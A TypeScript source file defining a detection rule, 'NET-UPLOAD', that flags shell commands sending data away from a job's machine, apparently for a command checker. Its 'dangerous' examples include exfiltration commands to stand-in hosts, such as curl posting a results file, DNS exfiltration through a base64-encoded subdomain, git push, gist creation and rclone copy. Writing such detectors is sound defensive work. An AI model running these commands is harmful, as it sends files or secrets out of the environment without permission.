import { isKnown } from "../../characters.js";
import type { Rule } from "../../rule.js";
import { CLOUD_COPIES, NAME_CLIENTS } from "../data/programs-fetch.js";
import { programNames } from "../data/programs.js";
import { cloudCopy } from "../shared/cloud.js";
import { checkPrograms } from "../shared/network.js";

export const rule = {
  id: "NET-UPLOAD",
  family: "network",
  severity: "error",
  why: "sends data away",
  fix: "Leave results in the job's directory: they are collected.",
  needsNetwork: true,
  commands: [...programNames("upload"), ...CLOUD_COPIES, ...NAME_CLIENTS],
  check: (invocation, report) => {
    const { name, args } = invocation;
    if (CLOUD_COPIES.has(name) && cloudCopy(args) === "sends") report(`${name} sends files away`);
    else if (NAME_CLIENTS.includes(name) && asksForComputedName(args))
      report(`${name} sends data in the name that it asks for`);
    else checkPrograms("upload", invocation, report);
  },
  examples: {
    dangerous: [
      "curl -d @results.csv https://example.org/in",
      'dig "$(base64 -w0 notes).example.org"',
      "git -C repo push https://example.org/r.git main",
      "lp -h printer.example.org:631 report.txt",
      "gh gist create notes.txt",
      "rclone copy out remote:bucket",
      "logger -n 192.0.2.7 -f notes",
    ],
    honest: [
      "git commit -m push",
      "curl -d name=x http://localhost:5000/predict",
      "rclone lsd --help",
      "logger done",
      "npm run publish",
      "./cancel -h",
    ],
  },
} as const satisfies Rule;

/** A name that is put together while the script runs carries data to whoever answers for the domain. */
function asksForComputedName(args: readonly string[]): boolean {
  return args.some((arg) => !arg.startsWith("-") && !isKnown(arg) && /\.\w/.test(arg));
}
